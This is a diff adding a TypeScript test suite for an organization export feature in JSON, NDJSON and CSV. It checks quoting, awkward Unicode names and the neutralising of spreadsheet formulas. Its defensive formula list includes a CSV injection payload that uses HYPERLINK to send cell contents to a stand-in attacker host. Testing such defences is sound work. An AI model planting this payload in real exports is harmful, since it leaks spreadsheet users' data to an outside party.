@@ -1,0 +1,140 @@
+import assert from 'node:assert/strict';
+import { parse } from 'csv-parse/sync';
+import type { Organization } from '../../src/management/organization.ts';
+import { encoders } from '../../src/organizations/exporting/encoders.ts';
+import type { ExportFormat } from '../../src/organizations/exporting/exportFormat.ts';
+import { loadedPortions } from '../../src/organizations/exporting/portions.ts';
+import { sampleOrganizations } from '../tenant/sampleData.ts';
+import { foreignNames, hostileNames } from '../tenant/sampleText.ts';
+
+/** In several portions, the last of which is not full. */
+const samples: readonly Organization[] = sampleOrganizations(250).map((organization) => ({ ...organization }));
+
+/** Names that break a line, a quote or an encoding, or are written in more than one direction. */
+const names = [
+  ...foreignNames,
+  ...hostileNames,
+  'x'.repeat(255),
+  'שלום "עולם", ועוד'.repeat(15),
+  'a\u202eb\u2066c\u2069',
+  'first\nsecond\r\nthird\rfourth',
+  'separated\u2028by\u2029others',
+  '"',
+  '""',
+  ',',
+  "'",
+  '',
+  '\u0000\u001f',
+];
+
+/** What a spreadsheet would run, in a line of its own or not. */
+const formulas = [
+  '=1+1',
+  '+1',
+  '-1',
+  '@SUM(A1)',
+  '\t=1',
+  '\r=1',
+  '＝1',
+  '＋1',
+  '－1',
+  '＠1',
+  '=HYPERLINK("https://evil.example?x="&A1,"Click")',
+  '=1\n=2',
+  '=',
+];
+
+async function textOf(format: ExportFormat, organizations: readonly Organization[]): Promise<string> {
+  let text = '';
+  for await (const piece of encoders[format](loadedPortions(organizations))) {
+    text += piece;
+  }
+  return text;
+}
+
+function named(displayNames: readonly string[]): readonly Organization[] {
+  return displayNames.map((displayName, index) => ({ id: `org_${index}`, display_name: displayName }));
+}
+
+/** The cells of a table, as others read it. */
+async function cellsOf(organizations: readonly Organization[]): Promise<readonly (readonly string[])[]> {
+  return parse(await textOf('csv', organizations), { record_delimiter: '\r\n' });
+}
+
+describe('Exporting as JSON', () => {
+  it('writes what the document of the list shows, to the byte', async () => {
+    for (const organizations of [samples, named(names), samples.slice(0, 100), samples.slice(0, 1), []]) {
+      assert.equal(await textOf('json', organizations), `${JSON.stringify({ organizations }, undefined, 2)}\n`);
+    }
+  });
+});
+
+describe('Exporting as NDJSON', () => {
+  it('writes one object a line, and ends the last one', async () => {
+    for (const organizations of [samples, named(names)]) {
+      const lines = (await textOf('ndjson', organizations)).split('\n');
+      assert.equal(lines.pop(), '');
+      assert.deepEqual(
+        lines.map((line) => JSON.parse(line) as unknown),
+        organizations,
+      );
+    }
+    assert.equal(await textOf('ndjson', []), '');
+  });
+});
+
+describe('Exporting as CSV', () => {
+  it('writes a line of names, and the same columns for each organization', async () => {
+    const header = ['id', 'name', 'display_name', 'logo_url', 'primary_color', 'page_background_color', 'metadata'];
+    const [first, ...rows] = await cellsOf(samples);
+    assert.deepEqual(first, header);
+    assert.equal(rows.length, samples.length);
+    for (const [index, { id, name, branding, metadata }] of samples.entries()) {
+      const { primary = '', page_background: background = '' } = branding?.colors ?? {};
+      const row = rows[index]?.toSpliced(2, 1, '');
+      const json = metadata ? JSON.stringify(metadata) : '';
+      assert.deepEqual(row, [id, name, '', branding?.logo_url ?? '', primary, background, json]);
+    }
+    assert.deepEqual(await cellsOf([]), [header]);
+  });
+
+  it('gives every name back, whatever it holds', async () => {
+    const [, ...rows] = await cellsOf(named(names));
+    assert.deepEqual(
+      rows.map(([, , displayName]) => displayName),
+      names,
+    );
+  });
+
+  it('writes no cell that a spreadsheet would run', async () => {
+    const organizations = [
+      ...named(formulas),
+      ...formulas.map((formula) => ({ id: formula, name: formula, branding: { logo_url: formula } })),
+      { id: 'org_1', metadata: Object.fromEntries(formulas.map((formula) => [formula, formula])) },
+    ];
+    const [, ...rows] = await cellsOf(organizations);
+    for (const cell of rows.flat()) {
+      assert.doesNotMatch(cell, /^[=+\-@\t\r＝＋－＠]/);
+    }
+    assert.deepEqual(
+      rows.slice(0, formulas.length).map(([, , displayName]) => displayName),
+      formulas.map((formula) => `'${formula}`),
+    );
+  });
+
+  it('separates and quotes as RFC 4180 has it', async () => {
+    const [organization] = named(['a "b", c\nd']);
+    assert.ok(organization);
+    const text = await textOf('csv', [{ ...organization, metadata: { key: null } }]);
+    assert.equal(text.slice(text.indexOf('\r\n') + 2), 'org_0,,"a ""b"", c\nd",,,,"{""key"":null}"\r\n');
+    for (const name of ['a\nb', 'a\rb', 'a\r\nb', 'a,b']) {
+      assert.ok((await textOf('csv', named([name]))).endsWith(`\norg_0,,"${name}",,,,\r\n`), JSON.stringify(name));
+    }
+  });
+
+  it('takes what the API may send beside texts', async () => {
+    const odd = { id: 'org_1', name: null, display_name: 5, branding: null, metadata: null };
+    const [, row] = await cellsOf([odd as unknown as Organization]);
+    assert.deepEqual(row, ['org_1', '', '5', '', '', '', '']);
+  });
+});
